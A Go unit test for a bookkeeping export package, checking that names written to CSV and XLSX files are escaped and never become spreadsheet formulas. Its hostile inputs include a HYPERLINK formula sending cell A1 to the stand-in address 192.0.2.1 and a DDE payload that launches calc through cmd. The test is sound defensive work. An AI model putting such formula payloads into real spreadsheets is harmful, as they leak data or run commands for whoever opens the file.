package daybook_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"hexiao/kiosk/daybook"
)

// A customer's or supplier's name never becomes a formula in a spreadsheet.
func TestNoFormulas(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://192.0.2.1/?"&A1,"see")`, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u3000=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(1)",
	}
	table := daybook.Table{Name: "names", Columns: []string{"name"}}
	for _, text := range hostile {
		if got := daybook.Neutral(text); got != "'"+text {
			t.Errorf("%q becomes %q", text, got)
		}
		table.Rows = append(table.Rows, []daybook.Cell{{Kind: daybook.Text, Text: text}})
	}
	for _, text := range []string{"", "张三", "a=b", "1-2", "'=1", "\xff"} {
		if got := daybook.Neutral(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
	var file bytes.Buffer
	if err := daybook.WriteCSV(&file, []daybook.Table{table}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(file.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != len(hostile)+2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, r := range rows[2:] {
		if !strings.HasPrefix(r[0], "'") {
			t.Errorf("the file has %q", r[0])
		}
	}
	file.Reset()
	if err := daybook.WriteXLSX(&file, []daybook.Table{table}); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&file)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	for i, text := range hostile {
		at, err := excelize.CoordinatesToCellName(1, i+2)
		if err != nil {
			t.Fatal(err)
		}
		formula, err1 := book.GetCellFormula("names", at)
		kind, err2 := book.GetCellType("names", at)
		if err1 != nil || err2 != nil || formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%q is %v with the formula %q, %v %v", text, kind, formula, err1, err2)
		}
	}
}
